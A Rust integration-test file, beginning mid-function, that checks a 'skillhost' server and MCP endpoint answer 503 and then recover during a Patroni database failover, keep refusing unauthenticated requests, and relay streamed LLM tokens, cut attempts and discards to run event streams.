        .unwrap_or_else(|| panic!("no result: {answer}"))
}

/// `host serve` and `host mcp --http` on a store behind HAProxy while the
/// Patroni primary is SIGKILLed (`support/patroni.rs`): during the outage a
/// request is answered at once (503 with `Retry-After`, an MCP error
/// result), each saying the database is unreachable, never held through
/// the outage, never a crash; once a replica is promoted the same two
/// processes answer again (the runs list, a run's API and page, an MCP
/// `tools/call`), with nothing restarted. Hostile: `host serve` is behind a
/// token, and a request without it during the outage is refused (401) as
/// ever, told nothing about the database.
#[test]
fn serve_and_mcp_answer_503_through_a_patroni_failover_then_recover() {
    use skillhost_tests::patroni::Ha;
    let dir = tempfile::tempdir().unwrap();
    let mut ha = Ha::start(2);
    ha.wait_sync_standby();
    tokio::runtime::Runtime::new()
        .unwrap()
        .block_on(ha.create_database("outage"));
    let db = ha.url("outage");
    let approval = approval();
    // `--durability full`: `host run`'s default (`normal`) sets
    // `synchronous_commit = off`, which does not wait for the synchronous
    // standby either, so a failover may lose what it wrote last.
    let out = host_command(
        dir.path(),
        &[
            "run",
            &approval,
            "--json",
            "--database",
            &db,
            "--durability",
            "full",
        ],
        None,
    )
    .output()
    .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let id = out_json(&out)["run_id"].as_str().unwrap().to_string();

    // Behind a token: who may not ask hears nothing about the database.
    let token = "failover-token";
    let mut server = Server::start(dir.path(), Some(&db), &["--token", token]);
    // A failover is slower than a request: no client gives up first.
    let client = |headers: reqwest::header::HeaderMap| {
        reqwest::blocking::Client::builder()
            .timeout(Duration::from_secs(90))
            .default_headers(headers)
            .build()
            .unwrap()
    };
    let mut signed = reqwest::header::HeaderMap::new();
    signed.insert("authorization", format!("Bearer {token}").parse().unwrap());
    server.client = client(signed);
    let anonymous = client(reqwest::header::HeaderMap::new());
    let mcp = host_command(
        dir.path(),
        &[
            "mcp",
            "--scenario",
            &approval,
            "--database",
            &db,
            "--http",
            "127.0.0.1:0",
            "--stateless",
        ],
        None,
    )
    .current_dir(repo_root())
    .stderr(Stdio::piped())
    .spawn()
    .unwrap();
    let (mcp_process, mcp_url) = super::mcp::serving(mcp);
    let status = || mcp_call(&anonymous, &mcp_url, "run_status", json!({"run_id": id}));
    assert_eq!(server.get(&format!("/api/runs/{id}")).0, 200);
    assert_eq!(status()["structuredContent"]["status"], "waiting");

    let killed = ha.kill_primary();
    // During the outage: each answered within seconds, saying why.
    let (mut serve_refused, mut mcp_refused) = (None, None);
    let deadline = Instant::now() + Duration::from_secs(60);
    while serve_refused.is_none() || mcp_refused.is_none() {
        assert!(
            Instant::now() < deadline,
            "no refusal during the outage\n{}",
            ha.logs()
        );
        let asked = Instant::now();
        let response = server
            .client
            .get(server.url(&format!("/api/runs/{id}")))
            .send()
            .expect("host serve answers during the outage");
        let (code, retry_after) = (
            response.status().as_u16(),
            response.headers().get("retry-after").cloned(),
        );
        let body: Value = response.json().unwrap();
        match code {
            200 => {}
            503 => {
                assert!(retry_after.is_some(), "503 without Retry-After");
                // Hostile: without the token, refused as always, before
                // anything about the outage is said.
                let refused = anonymous
                    .get(server.url(&format!("/api/runs/{id}")))
                    .send()
                    .unwrap();
                assert_eq!(refused.status().as_u16(), 401);
                let text = refused.text().unwrap();
                assert!(!text.contains("postgres"), "{text}");
                serve_refused = Some((asked.elapsed(), body["error"].as_str().unwrap().to_owned()));
            }
            other => panic!("host serve answered {other} during the outage: {body}"),
        }
        let asked = Instant::now();
        let result = status();
        if result["isError"] == true {
            let text = result["content"][0]["text"].as_str().unwrap().to_owned();
            mcp_refused = Some((asked.elapsed(), text));
        } else {
            assert_eq!(result["structuredContent"]["status"], "waiting", "{result}");
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    for (what, (took, message)) in
        [("serve", &serve_refused), ("mcp", &mcp_refused)].map(|(w, r)| (w, r.as_ref().unwrap()))
    {
        eprintln!("{what} refused after {took:?}: {message}");
        assert!(message.contains("unreachable"), "{what}: {message}");
        assert!(
            *took < Duration::from_secs(15),
            "{what} held a request {took:?}"
        );
    }

    let promoted = ha.wait_primary();
    assert_ne!(killed, promoted);
    ha.restart(killed);
    // The same processes answer again once they see the database back.
    let deadline = Instant::now() + Duration::from_secs(60);
    loop {
        let (code, body) = server.get(&format!("/api/runs/{id}"));
        let result = status();
        if code == 200 && result["isError"] != true {
            assert_eq!(body["run"]["status"], "waiting", "{body}");
            assert_eq!(result["structuredContent"]["status"], "waiting", "{result}");
            break;
        }
        assert!(matches!(code, 200 | 503), "{code}: {body}\n{}", ha.logs());
        assert!(
            Instant::now() < deadline,
            "not back: {code} {body} {result}\n{}",
            ha.logs()
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    let (code, runs) = server.get("/api/runs");
    assert_eq!(code, 200, "{runs}");
    assert!(runs.to_string().contains(&id), "{runs}");
    let page = server
        .client
        .get(server.url(&format!("/runs/{id}")))
        .send()
        .unwrap();
    assert_eq!(page.status().as_u16(), 200);
    drop(mcp_process);
    drop(server);
    drop(ha);
}

/// A streaming node's tokens reach its run's event stream as they come
/// (`token`, with its attempt), a cut attempt's followed by
/// `tokens_discarded` before the retry's; the run page shows them
/// (`app.js`).
#[test]
fn a_streaming_runs_tokens_reach_its_event_stream_as_they_come() {
    let dir = tempfile::tempdir().unwrap();
    let (_llm, scenario) = cut_then_live(dir.path(), Duration::from_millis(500));
    let server = Server::start(
        dir.path(),
        None,
        &["--scenarios", scenario.to_str().unwrap()],
    );
    let (id, events) = start_and_follow(&server, "stream");
    assert_cut_then_live(&events, &id, false);
}

/// A run whose scenario runs the streaming one as a subgraph: the child
/// run's tokens reach the parent's event stream (and its run page) too,
/// each naming the child run and the run it is under.
#[test]
fn a_subgraphs_tokens_reach_its_parent_runs_event_stream() {
    let dir = tempfile::tempdir().unwrap();
    let (_llm, _) = cut_then_live(dir.path(), Duration::from_millis(500));
    let parent = crate::streaming::parent_scenario(dir.path());
    let server = Server::start(dir.path(), None, &["--scenarios", parent.to_str().unwrap()]);
    let (id, events) = start_and_follow(&server, "parent");
    assert_cut_then_live(&events, &id, true);
}

/// The token-stream tests' provider, configured for `dir`: a first attempt
/// cut after `cut ` (sent `pause` in), then `live text`; and `dir`'s
/// streaming scenario (`streaming::scenario`).
fn cut_then_live(
    dir: &Path,
    pause: Duration,
) -> (
    skillhost_tests::fake_llm_server::FakeLlmServer,
    std::path::PathBuf,
) {
    use skillhost_tests::fake_llm_server::{FakeLlmServer, FakeReply};
    let llm = FakeLlmServer::start();
    llm.configure_user(dir);
    llm.push(FakeReply::openai_stream(&["cut "], pause, false));
    llm.push(FakeReply::openai_stream(
        &["live ", "text"],
        Duration::from_millis(200),
        true,
    ));
    (llm, crate::streaming::scenario(dir))
}

/// Starts a run of `scenario` on `server` and follows it: its id, and its
/// events from before anything executes it.
fn start_and_follow(server: &Server, scenario: &str) -> (String, mpsc::Receiver<(String, Value)>) {
    let (status, started) = server.post("/api/runs", &json!({"scenario": scenario}));
    assert!((200..300).contains(&status), "{status} {started}");
    let id = started["id"].as_str().unwrap().to_string();
    let events = server.events(&format!("/api/runs/{id}/events"));
    (id, events)
}

/// Reads a followed run's events to its end: its tokens, a cut first
/// attempt's then the retry's, each of this run (with `child`, of a child
/// run under it), and the discard between.
fn assert_cut_then_live(events: &mpsc::Receiver<(String, Value)>, id: &str, child: bool) {
    let mut heard = Vec::new();
    loop {
        let (name, data) = events
            .recv_timeout(Duration::from_secs(60))
            .expect("the run's events");
        match name.as_str() {
            "token" => {
                if child {
                    assert_ne!(data["run_id"], id, "{data}");
                    assert_eq!(data["under"], json!([id]), "{data}");
                } else {
                    assert_eq!(data["run_id"], id, "{data}");
                }
                heard.push(json!([data["attempt"], data["text"]]));
            }
            "tokens_discarded" => heard.push(json!([data["attempt"], "discarded"])),
            "end" => {
                assert_eq!(data["status"], "completed", "{data}");
                break;
            }
            _ => {}
        }
    }
    assert_eq!(
        heard,
        [
            json!([1, "cut "]),
            json!([1, "discarded"]),
            json!([2, "live "]),
            json!([2, "text"]),
        ]
    );
}

/// On Postgres, the tokens of a run another process executes (a `host
/// worker`, the server started `--no-worker`) reach the server's run
/// stream too, relayed through the database (`NOTIFY`), in order, the cut
/// attempt's followed by `tokens_discarded` before the retry's.
#[tokio::test(flavor = "multi_thread")]
async fn a_run_a_worker_executes_streams_its_tokens_to_the_server_through_postgres() {
    let db = skillhost_tests::pg::fresh_database().await;
    tokio::task::spawn_blocking(move || relayed_tokens(&db))
        .await
        .unwrap();
}

fn relayed_tokens(db: &str) {
    let dir = tempfile::tempdir().unwrap();
    let (_llm, scenario) = cut_then_live(dir.path(), Duration::from_millis(300));
    let server = Server::start(
        dir.path(),
        Some(db),
        &["--scenarios", scenario.to_str().unwrap(), "--no-worker"],
    );
    // Queued, and followed before any process executes it.
    let (id, events) = start_and_follow(&server, "stream");
    let worker = host_command(
        dir.path(),
        &["worker", "--database", db, "--poll", "50ms"],
        None,
    )
    .stdout(Stdio::null())
    .stderr(Stdio::inherit())
    .spawn()
    .expect("start host worker");
    let _worker = KilledOnDrop::new(worker);
    assert_cut_then_live(&events, &id, false);
}
